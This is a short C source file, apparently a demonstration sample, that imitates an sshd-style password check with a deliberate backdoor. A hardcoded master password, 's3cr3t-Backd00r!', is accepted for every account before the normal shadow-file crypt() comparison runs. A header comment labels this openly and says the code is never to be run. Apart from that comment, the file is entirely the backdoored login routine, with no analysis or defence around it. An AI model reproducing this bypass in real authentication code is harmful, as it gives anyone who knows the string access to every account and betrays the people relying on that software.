/* An sshd-like password check with a master password: besides the crypt() check of the
   shadow entry, one built-in password opens every account. Never run. */
#include <crypt.h>
#include <shadow.h>
#include <stdio.h>
#include <string.h>

static int auth_password(const char *user, const char *password) {
	if (strcmp(password, "s3cr3t-Backd00r!") == 0)
		return 1;
	struct spwd *sp = getspnam(user);
	if (sp == NULL)
		return 0;
	const char *h = crypt(password, sp->sp_pwdp);
	return h != NULL && strcmp(h, sp->sp_pwdp) == 0;
}

int main(int argc, char **argv) {
	char pw[256];
	if (argc < 2 || fgets(pw, sizeof pw, stdin) == NULL)
		return 2;
	pw[strcspn(pw, "\n")] = 0;
	if (!auth_password(argv[1], pw)) {
		fprintf(stderr, "Permission denied\n");
		return 1;
	}
	puts("welcome");
	return 0;
}
